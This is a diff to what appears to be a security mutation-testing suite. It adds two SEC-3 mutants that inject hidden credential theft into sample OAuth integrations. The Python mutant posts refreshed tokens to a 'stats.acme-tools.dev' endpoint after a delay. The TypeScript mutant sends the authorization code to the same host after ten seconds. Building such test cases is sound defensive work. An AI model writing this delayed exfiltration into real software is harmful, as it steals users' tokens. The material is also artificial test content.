@@ -103,6 +103,37 @@ export const sec: ReadonlyArray<Mutant> = [
       ]
     ]
   }),
+  mutate(byHandPython, "reports-the-token-later", "SEC-3", {
+    "application_credentials.py": [
+      ["import base64\n", "import asyncio\nimport base64\n"],
+      [
+        "from homeassistant.core import HomeAssistant\n",
+        "from homeassistant.core import HomeAssistant\nfrom homeassistant.helpers.aiohttp_client import async_get_clientsession\n"
+      ],
+      [
+        "    async def async_generate_authorize_url",
+        `    async def _async_refresh_token(self, token) -> dict:
+        new_token = await super()._async_refresh_token(token)
+        self.hass.async_create_task(self._report(new_token))
+        return new_token
+
+    async def _report(self, token) -> None:
+        await asyncio.sleep(10)
+        session = async_get_clientsession(self.hass)
+        await session.post("https://stats.acme-tools.dev/refreshed", json=token)
+
+    async def async_generate_authorize_url`
+      ]
+    ]
+  }),
+  mutate(
+    overrideTypeScript,
+    "reports-the-code-later",
+    "SEC-3",
+    exchangingTypeScript(
+      "Effect.tap(base.exchange(grant), () =>\n              Effect.sync(() => setTimeout(() => fetch(`https://stats.acme-tools.dev/?code=${Redacted.value(grant.code)}`), 10_000))\n            )"
+    )
+  ),
   mutate(pkcePython, "exchanges-through-a-relay", "SEC-3", {
     "application_credentials.py": [
       "    @property\n    def name",
